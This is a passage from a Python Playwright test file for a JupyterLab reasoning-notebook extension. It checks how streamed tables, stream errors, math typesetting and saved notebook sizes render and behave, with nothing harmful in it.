    assert not page.errors, page.errors


TABLE_ROWS = [
    (colour, str(nm), f"{(700 / nm) ** 4:.2f}")
    for colour, nm in [("red", 700), ("orange", 620), ("yellow", 580), ("green", 530)] * 6
]
TABLE = "| colour | wavelength (nm) | scattering vs red |\n|---|---:|---:|\n" + "".join(
    f"| {c} | {nm} | {k} |\n" for c, nm, k in TABLE_ROWS
)
WATCH_TABLES = """([i, rows]) => {
  // At every DOM change in the answer while the stream lasts: text outside a table that holds
  // a pipe, table rows that are not whole rows of the source, columns of the pieces of a table
  // cut by force that do not line up, stripes that do not alternate; the most pieces seen.
  const whole = new Set(rows.map((r) => r.join('|')));
  window.__tables = {wrong: [], pieces: 0};
  const lefts = (tr) => [...tr.children].map((td) => Math.round(td.getBoundingClientRect().left));
  const look = () => {
    const answer = window.__rn.parts(i)?.answer;
    if (!answer) return;
    for (const md of answer.querySelectorAll('.jp-RenderedMarkdown')) {
      const c = md.cloneNode(true);
      c.querySelectorAll('table, pre, code, mjx-container').forEach((x) => x.remove());
      if (c.textContent.includes('|')) window.__tables.wrong.push('raw: ' + c.textContent);
    }
    for (const tr of answer.querySelectorAll('tr')) {
      const cells = [...tr.children].map((td) => td.textContent.trim()).join('|');
      if (!whole.has(cells)) window.__tables.wrong.push('row: ' + cells);
    }
    const pieces = answer.querySelectorAll('table').length;
    window.__tables.pieces = Math.max(window.__tables.pieces, pieces);
    const body = [...answer.querySelectorAll('tbody tr')];
    body.forEach((tr, k) => {
      if (k && lefts(tr).join() !== lefts(body[0]).join())
        window.__tables.wrong.push(`columns of row ${k}: ${lefts(tr)} under ${lefts(body[0])}`);
      const [a, b] = [tr, body[k - 1]].map((r) => r && getComputedStyle(r).backgroundColor);
      if (k && a === b) window.__tables.wrong.push(`rows ${k - 1} and ${k}: both ${a}`);
    });
  };
  new MutationObserver(look).observe(window.__rn.cellNode(i),
    {subtree: true, childList: true, characterData: true});
}"""


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_a_streamed_table_shows_only_as_a_table(page, lab, wire, theme):
    """A table streams in as a table: no header row shown as a line of pipes before its
    delimiter row, no half-written row, and past the tail's limit each piece goes on under the
    head above, its columns lined up and its stripes going on (one table once done)."""
    answer = f"The scattering, colour by colour:\n\n{TABLE}\nSo blue wins."
    wire.route("POST", CHAT, stream("Think a bit.", answer, pause=0.02))
    slug = theme.split()[-1].lower()
    think_notebook(lab, wire, f"table-{slug}.ipynb")
    try:
        set_theme(page, theme)
        open_notebook(page, f"table-{slug}.ipynb")
        page.wait_for_function("() => window.__rn.cellNode(1)")
        rows = [["colour", "wavelength (nm)", "scattering vs red"], *map(list, TABLE_ROWS)]
        page.evaluate(WATCH_TABLES, [1, rows])
        run_all(page)
        wait_state(
            page, "(s.answer.match(/yellow/g) || []).length >= 3 && !s.answer.includes('So')"
        )
        shot(page, f"17-table-streaming-{slug}", cell(page))
        wait_cell_done(page)
        wait_state(page, "s.status.startsWith('done')")
        seen = page.evaluate("() => window.__tables")
        shot(page, f"18-table-done-{slug}", cell(page))
    finally:
        set_theme(page, "JupyterLab Light")
    print(f"\n[browser] streamed table: up to {seen['pieces']} pieces; {len(seen['wrong'])} wrong")
    assert not seen["wrong"], seen["wrong"][:5]
    assert seen["pieces"] >= 2, seen  # (cut by force: the pieces were there to see)
    answer_box = ended(page).locator(".reasoning-nb-answer")  # (the twin shows it)
    assert answer_box.locator("table").count() == 1
    assert answer_box.locator("tbody tr").count() == len(TABLE_ROWS)
    assert not page.errors, page.errors


SHOWN_TEXT = """([i, needle]) => {
  // How many visible text nodes in cell i's outputs hold ``needle``.
  const area = window.__rn.cellNode(i).querySelector('.jp-Cell-outputArea');
  const walker = document.createTreeWalker(area, NodeFilter.SHOW_TEXT);
  let n = 0;
  for (let t = walker.nextNode(); t; t = walker.nextNode())
    if (t.data.includes(needle) && t.parentElement.getClientRects().length) n++;
  return n;
}"""


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_a_failed_run_shows_its_error_once_as_jupyter_does(page, lab, wire, theme):
    """A stream that drops mid-way: what arrived stays, the status line says ``error``, and the
    error shows once, as Jupyter shows a failed cell's: the cell's own error line (Run All stops
    there), not a second copy in the twin. A re-run from the dropdown that fails after the
    cell ended has no error line of the cell: the twin shows the error, on Jupyter's error
    background, readable at 4.5:1 or better."""
    frames = wf.chat_sse("Thinking about the sky " * 6, "The answer is", done=False)
    dropped = Reply.sse(frames, drop_after=len("".join(frames[:-2])))
    wire.route("POST", CHAT, dropped, dropped)
    name = f"error-{theme.split()[-1].lower()}.ipynb"
    think_notebook(lab, wire, name)
    try:
        set_theme(page, theme)
        open_notebook(page, name)
        run_all(page)
        wait_cell_done(page)
        final = wait_state(page, "s.status.startsWith('error')")
        assert "dropped" not in final["status"]  # not in the small grey line
        cell_error = cell(page).locator("[data-mime-type='application/vnd.jupyter.stderr']")
        expect(cell_error).to_contain_text("%%think failed: ")
        expect(cell_error).to_contain_text("dropped mid-stream")
        assert page.evaluate(SHOWN_TEXT, [1, "dropped mid-stream"]) == 1  # said once
        slug = theme.split()[-1].lower()
        shot(page, f"16-error-{slug}", cell(page))

        live(page).locator(".reasoning-nb-header select").select_option("high")
        wait_state(page, f"{TWO_RUNS} && s.status.startsWith('error')")
        error = ended(page).locator(":scope > .reasoning-nb-error")
        expect(error).to_be_visible()
        expect(error).to_contain_text("✖")
        expect(error).to_contain_text("dropped mid-stream")
        assert page.evaluate(SHOWN_TEXT, [1, "dropped mid-stream"]) == 2  # (and the cell's)
        look = looks(error)
        assert look["background"] not in ("rgba(0, 0, 0, 0)", "transparent"), look
        worst = min(
            live(page).evaluate(CONTRAST), ended(page).evaluate(CONTRAST), key=lambda w: w["ratio"]
        )
        shot(page, f"16-error-rerun-{slug}", cell(page))
        assert worst["ratio"] >= 4.5, worst
    finally:
        set_theme(page, "JupyterLab Light")
    assert not page.errors, page.errors


def test_a_reopened_failed_run_shows_its_error_once(page, lab, wire):
    """Reopened without widget state, a failed run's static twin stands in for the widget: the
    cell's saved error line says the error, the twin's own error line is hidden."""
    from nbclient import NotebookClient
    from nbformat.sign import NotebookNotary

    wire.route("POST", CHAT, Reply.json({"error": {"message": "model 'm' not found"}}, 404))
    nb = nbformat.read(think_notebook(lab, wire, "failed-reopened.ipynb"), as_version=4)
    NotebookClient(nb, timeout=60, kernel_name="python3", allow_errors=True).execute()
    nb.metadata.pop("widgets", None)  # Lab's default saveState: false
    NotebookNotary().sign(nb)
    nbformat.write(nb, lab.root / "failed-reopened.ipynb")
    open_notebook(page, "failed-reopened.ipynb")
    expect(static(page)).to_be_visible()
    expect(cell(page).locator("[data-mime-type='application/vnd.jupyter.stderr']")).to_contain_text(
        "model 'm' not found"
    )
    assert page.evaluate(SHOWN_TEXT, [1, "model 'm' not found"]) == 1
    shot(page, "16-error-reopened", cell(page))


def _math_heavy_twin_typesets(page) -> None:
    """The ended math-heavy run's twin, its reasoning open: every span typeset, none left as
    TeX text, in Light and Dark (screenshots 19-math-heavy-*: the reasoning's math, the
    answer)."""
    pane_title(ended(page)).click()
    wait_state(page, "s.paneOpen && s.twin")
    page.wait_for_function("() => window.__rn.state(1).math >= 26", timeout=LONG)
    page.wait_for_timeout(500)  # (a stray late typeset would show up here)
    typeset = ended(page).evaluate(TYPESET)
    assert typeset["reasoning"] == 10 and typeset["answer"] == 16, typeset
    assert not typeset["raw"] and typeset["em"] == 0, typeset
    assert ended(page).locator(".reasoning-nb-answer td mjx-container").count() == 4
    steps = ended(page).locator("details.reasoning-nb-reasoning > div > *")
    first, last = steps.nth(steps.count() - 5), steps.nth(steps.count() - 1)  # MATH_STEPS
    try:
        for theme in ("JupyterLab Light", "JupyterLab Dark"):
            set_theme(page, theme)
            name = f"19-math-heavy-{theme.split()[-1].lower()}"
            first.scroll_into_view_if_needed()
            top, bottom = first.bounding_box(), last.bounding_box()
            clip = {**top, "height": bottom["y"] + bottom["height"] - top["y"]}
            page.screenshot(path=str(ARTIFACTS / f"{name}-reasoning.png"), clip=clip)
            shot(page, f"{name}-answer", ended(page).locator(".reasoning-nb-answer"))
            assert ended(page).evaluate(CONTRAST)["ratio"] >= 4.5
    finally:
        set_theme(page, "JupyterLab Light")
    assert not page.errors, page.errors


SIZE_BUDGET = 2.5
"""Saved bytes per %%think cell, without widget state, per byte of its reasoning and answer."""
SIZE_BUDGET_WITH_STATE = 3.0
"""...and with Lab's widget state saved: a live view whose static twin follows is not saved
(``static/session.js``), so the state keeps only models no view reaches (1 on Lab 4.6)."""


@pytest.mark.parametrize("case", ["single", "rerun", "compare", "math", "math-short"])
def test_saved_notebook_size(page, lab, wire, case):
    """What Lab saves for a %%think cell (saveState on), after one run, after a dropdown
    re-run, for --compare, and for a math-heavy run (26 math spans, a table, code; 14 KB, and
    11 KB with less prose, where the cell's fixed bytes weigh more): without
    widget state at most SIZE_BUDGET x the text of every run (each trace once, the static
    twin's HTML once); with it, at most SIZE_BUDGET_WITH_STATE x, the widget keeping no text of
    a run its twin shows (--compare: only the columns' titles and presets). The math-heavy
    run's twin typesets every span, in Light and Dark."""
    import random

    from test_widget import math_heavy, paragraphs

    texts = [
        (paragraphs(random.Random(s), 8_000, lines=True), "## Result\n\n" + paragraphs(
            random.Random(s + 1), 4_000, code=True))
        for s in ((3, 5) if case in ("rerun", "compare") else (3,))
    ]  # fmt: skip
    if case.startswith("math"):  # (math took ~70 bytes a span to save: 2.57x without widget
        texts = [math_heavy(3, short=case == "math-short")]  # state; 11 KB: 2.72x, 3.27x)
    if case == "compare":  # the second answer edits four lines of the first: a diff to save
        lines = texts[0][1].split("\n")
        for k in [k for k, line in enumerate(lines) if line.strip()][2::20][:4]:
            lines[k] += " (and so on)"
        texts[1] = (texts[1][0], "\n".join(lines))
    wire.route("POST", CHAT, *(stream(r, a, pause=0.001) for r, a in texts))
    name = f"size-{case}.ipynb"
    if case == "compare":
        path = write_notebook(
            lab, name, "%load_ext reasoning_nb",
            f"%%think --model llamacpp:m --base-url {wire.url} --compare low,high\nWhy blue?",
        )  # fmt: skip
    else:
        path = think_notebook(lab, wire, name)
    open_notebook(page, name)
    run_all(page)
    wait_cell_done(page)
    if case == "rerun":
        wait_state(page, "s.status.startsWith('done')")
        live(page).locator(".reasoning-nb-header select").select_option("high")
        wait_state(page, f"{TWO_RUNS} && s.status.startsWith('done')")
        wait_cell_done(page)  # (the kernel idle: it closed the re-run's widgets)
    save(page)
    saved = nbformat.read(path, as_version=4)
    text = sum(len((r + a).encode()) for r, a in texts)
    full = len(path.read_bytes())
    widgets = saved.metadata.pop("widgets", {})  # (only models no saved view reaches)
    state = widgets.get("application/vnd.jupyter.widget-state+json", {}).get("state", {})
    outputs = [m for m in state.values() if m["model_name"] == "OutputModel"]
    bare = len(nbformat.writes(saved).encode())
    widget_bytes = full - bare
    print(
        f"\n[browser] saved ({case}): text {text:,} B; .ipynb {full:,} B with widget state "
        f"({full / text:.2f}x; {len(state)} models, {len(outputs)} Outputs, widget state "
        f"{widget_bytes:,} B), {bare:,} B without ({bare / text:.2f}x)"
    )
    twin = "".join(
        "".join(o.get("data", {}).get("text/html", "")) for c in saved.cells for o in c.outputs
    )
    colours = code_colour_bytes(twin)  # (the code's colours: saved_size.py)
    print(f"[browser] ({case}) code colours allowed: {colours:,} B")
    assert bare <= SIZE_BUDGET * text + colours
    # The twin shows the run on screen (--compare: the static output, the widget its titles):
    # no text in the widget state.
    assert not outputs and texts[-1][1].split("\n")[0][3:] not in json.dumps(state)
    assert full <= SIZE_BUDGET_WITH_STATE * text + colours
    if case == "math":
        _math_heavy_twin_typesets(page)
    if case == "compare":
        page = "".join(o["data"].get("text/html", "") for o in saved.cells[1].outputs)
        assert page.count("<ins>") == 4 and page.count("<del>") == 4  # the diff, saved
